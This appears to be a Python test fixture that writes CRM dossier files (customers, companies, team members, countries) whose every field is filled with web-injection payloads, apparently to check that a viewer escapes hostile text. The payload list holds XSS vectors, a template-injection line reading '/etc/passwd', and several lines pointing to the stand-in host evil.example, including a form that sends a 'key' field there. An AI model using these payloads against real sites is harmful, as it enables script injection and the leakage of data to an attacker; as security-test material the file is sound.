"""Dossiers whose every text is an attack on the page that shows it."""

from __future__ import annotations

from pathlib import Path

PAYLOADS = (
    "<script>boom(1)</script>",
    "\"><img src=x onerror='boom(2)'>",
    "' autofocus onfocus=boom(3) x='",
    "<svg onload=boom(4)><animate onbegin=boom(4)>",
    "</textarea><script>boom(5)</script>",
    "</title><style>*{background:url(http://evil.example/css)}</style>",
    "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}",
    "<iframe srcdoc='<script>parent.boom(6)</script>'></iframe>",
    "<a href=javascript:boom(7)>here</a>",
    "<form action=http://evil.example/><input name=key autofocus>",
    "<div hx-get=/trouble hx-trigger=load hx-on:click=boom(8) hx-on::load=boom(8)>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=http://evil.example/><object data=http://evil.example/o>",
    "x\\u0022 style=position:fixed;inset:0 x=",
)


def quoted(text: str) -> str:
    """A text as a YAML value in quotes."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'


def write_hostile_book(root: Path) -> int:
    """Writes a customer, a company, a country and a colleague for each payload; how many."""
    for folder in ("customers", "companies", "countries", "team"):
        (root / "dossiers" / folder).mkdir(parents=True, exist_ok=True)
    first = quoted(PAYLOADS[0])
    own = f"fields:\n  own: {{type: text, doc: {quoted(PAYLOADS[1])}}}\n"
    (root / "dossiers/book.yaml").write_text(f"name: {first}\ncountry: cn\n{own}")
    for number, payload in enumerate(PAYLOADS):
        text = quoted(payload)
        _write(root, f"customers/c{number}", _CUSTOMER.format(text=text, raw=payload, n=number))
        _write(root, f"companies/f{number}", _COMPANY.format(text=text, raw=payload))
        _write(root, f"team/m{number}", f"---\nname: {text}\ntitle: {text}\n---\n{payload}\n")
    _write(root, "countries/de", f"---\nname: {first}\netiquette: [{first}]\n---\n{PAYLOADS[1]}\n")
    _write(root, "customers/bad", f"---\nname: [{first}\nsta<b>ge: {first}\n---\n")
    return len(PAYLOADS)


def _write(root: Path, path: str, text: str) -> None:
    (root / f"dossiers/{path}.md").write_text(text, encoding="utf-8")


_CUSTOMER = """\
---
name: {text}
given: {text}
family: {text}
salutation: {text}
company: f{n}
country: de
owner: m{n}
source: {{channel: exhibition, detail: {text}, date: 2025-04-17}}
position: {{title: {text}, authority: none}}
career: [{{employer: {text}, role: {text}}}]
reach: {{wechat: {text}, whatsapp: {text}}}
interests: [{text}]
birthday: 11-25
stage: {text}
reason: {text}
buys: [{text}]
next: [{next}]
snooze:
tags: [{text}]
custom: {{own: {text}}}
---
{raw}

## Log

- 2026-11-10 call: {raw}
- 2026-11-11 email in: {raw} [[c0]]
""".replace("{next}", '"2026-11-18 " , {text}')
_COMPANY = """\
---
name: {text}
legal-name: {text}
country: de
website: {text}
strengths: [{text}]
events: [{{name: {text}, date: 2026-12-01}}]
terms: {{payment: {text}, incoterm: FOB, place: {text}}}
---
{raw}

## Log

- 2026-11-10 visit: {raw}
"""
